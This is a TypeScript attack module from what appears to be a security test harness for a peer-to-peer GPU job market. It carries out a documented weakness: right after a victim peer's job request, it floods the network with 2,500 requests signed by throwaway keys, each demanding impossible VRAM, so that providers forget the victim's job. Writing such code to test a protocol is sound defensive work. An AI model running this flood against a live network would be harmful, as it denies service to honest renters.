/**
 * Issue 36 item 3, flushing a provider's job memory: the moment the victim (`--victim`, a peer
 * id) publishes a job request, the attacker publishes `--requests` (default 2,500) job requests
 * on the shards, each signed by a fresh throwaway key (one request per key: no per-signer bound
 * or per-author rate limit applies), asking for impossible VRAM so nobody bids. A provider
 * whose memory forgets "the first seen among equals" drops the victim's job, and declines its
 * award `UNKNOWN_JOB`. Prints a progress line once the flood is out ({flooded, sent}).
 */
import { generateKeyPair } from '@libp2p/crypto/keys'
import { peerIdFromPrivateKey } from '@libp2p/peer-id'
import { jobShardOf } from '../../../protocols/ids.js'
import { sleep } from '../../../src/common/index.js'
import { parseJobSpec, toJobRequest } from '../../../src/market/renter/job-spec.js'
import { readJobRequest, signJobRequest, type JobRequest } from '../../../src/market/shared/messages.js'
import { onEveryJob } from '../market-wire.js'
import { numberOption, untilAborted, type Attack } from './attack.js'
import type { IdlegridNode } from '../../../src/node/index.js'

/** More VRAM than any GPU has. */
const IMPOSSIBLE_VRAM_MIB = 4_000_000
/** Requests published before yielding to the node's I/O (gossipsub drops what overflows a peer's queue). */
const BATCH = 50

export const jobFlush: Attack = {
  summary: 'right after the victim\'s job request, --requests job requests from as many throwaway keys',
  play: async ({ nodes: [me], options, signal, log, report }) => {
    if (me == null) throw new Error('no node')
    const victim = options.victim
    if (victim == null) throw new Error('--victim is required')
    const requests = numberOption(options, 'requests', 2_500)
    const counts = { victimJobs: 0, sent: 0, sendFailed: 0 }
    let flooding: Promise<void> | undefined
    const off = onEveryJob(me, (envelope) => {
      if (flooding != null || readJobRequest(envelope).signer.toString() !== victim) return
      counts.victimJobs++
      log(`victim's job heard: flooding ${requests} requests from throwaway keys`)
      flooding = flood(me, requests, signal, counts).then(() => { report({ flooded: true, ...counts }) })
    })
    await untilAborted(signal)
    off()
    await flooding
    return { requests, ...counts }
  }
}

async function flood (
  me: IdlegridNode,
  requests: number,
  signal: AbortSignal,
  counts: { sent: number, sendFailed: number }
): Promise<void> {
  const spec = parseJobSpec({ name: 'flush', workload: 'evaluation', runtime: { command: ['/bin/true'] }, estimatedMinutes: 1 })
  // where bidders would dial (binary, without /p2p: multicodec 421); nobody bids on impossible VRAM
  const renterAddrs = me.libp2p.getMultiaddrs().map(a => a.decapsulateCode(421).bytes).slice(0, 4)
  for (let i = 0; i < requests && !signal.aborted; i++) {
    const key = await generateKeyPair('Ed25519')
    const signer = peerIdFromPrivateKey(key)
    const request: JobRequest = toJobRequest(spec, { renter: signer.toMultihash().bytes, renterAddrs })
    request.constraints = { ...(request.constraints as NonNullable<JobRequest['constraints']>), minVramMib: IMPOSSIBLE_VRAM_MIB }
    const job = signJobRequest(key, signer, request)
    await me.libp2p.services.pubsub.publish(jobShardOf(request.constraints), job.envelope).then(
      () => {
        counts.sent++
      },
      () => {
        counts.sendFailed++
      }
    )
    if ((i + 1) % BATCH === 0) await sleep(10, signal).catch(() => {})
  }
}
